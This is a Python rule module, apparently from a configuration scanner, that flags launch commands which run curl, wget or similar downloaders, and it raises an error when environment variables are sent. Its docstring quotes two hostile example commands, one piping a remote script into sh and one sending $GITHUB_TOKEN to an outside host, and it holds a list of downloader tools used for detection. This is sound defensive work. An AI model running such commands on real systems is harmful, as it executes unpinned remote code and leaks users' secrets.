"""A launch command that runs a downloader (`curl`, `wget`, …) in place of a package runner: what it fetches is
pinned by nothing (no version, no digest) and can change at any time, and a `$VARIABLE` in what it sends takes the
user's environment off the machine at every start, before any server runs. `check-config` said only "launch not
checked" of `bash -c 'curl -s https://host/x.sh | sh'` and of `sh -c 'curl https://host/$GITHUB_TOKEN'`."""

from __future__ import annotations

import re

from scanner.report.model import Finding, Severity
from scanner.rules.provenance import finding

DOWNLOADERS = frozenset({"curl", "wget", "wget2", "aria2c", "fetch", "http", "https", "xh", "curlie"})
_URL = re.compile(r"(?i)(?:https?|ftps?)://(?:[^/?#@\s]*@)?([^/?#\s:]+)")
_VARIABLE = re.compile(r"\$(?:\{([A-Za-z_][A-Za-z0-9_]*)[^}]*\}|([A-Za-z_][A-Za-z0-9_]*))")


def download_finding(program: str, args: list[str]) -> Finding:
    """I1 for a launch that downloads with `program` (an error when its arguments send an environment variable):
    the host named, never the path or query (they may hold a secret), nor any credential before an @."""
    hosts = [match.group(1) for word in args for match in [_URL.search(word)] if match is not None]
    host = hosts[0][:100] if hosts else "wherever its arguments point"
    sent = sorted({"$" + (braced or plain) for word in args for braced, plain in _VARIABLE.findall(word)})
    if sent:
        return finding("I1", f"The launch runs `{program}` with {', '.join(sent[:5])} in its arguments, to {host}: "
                             "it sends the user's environment off the machine at every start, before any server "
                             "runs.", evidence=f"{program} {host}", severity=Severity.ERROR)
    return finding("I1", f"Unpinned launch: the command downloads from {host} with `{program}` at every start; no "
                         "version or digest pins what it fetches (or what it runs, when piped to a shell).",
                   evidence=f"{program} {host}")
